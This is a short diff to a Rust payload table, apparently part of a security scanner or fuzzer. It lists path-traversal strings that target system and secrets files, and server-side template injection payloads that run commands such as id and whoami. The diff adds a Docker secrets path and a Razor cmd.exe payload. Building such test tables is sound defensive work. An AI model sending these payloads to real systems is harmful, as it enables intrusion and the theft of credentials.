@@ -116,6 +116,7 @@ pub const FAMILIES: &[Family] = &[
             "../../../../../../etc/hosts\0.png",
             "/var/www/../../etc/group",
             "../../WEB-INF/web.xml",
+            "/run/secrets/db_password",
         ],
     },
     Family {
@@ -221,6 +222,7 @@ pub const FAMILIES: &[Family] = &[
             "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
             "[[${7*7}]]",
             "<esi:include src=\"http://203.0.113.9/x\"/>",
+            "@{System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\");}",
             "${{<%[%'\"}}%\\.",
             "*{7*7}",
             "<%= open('|id').read %>",
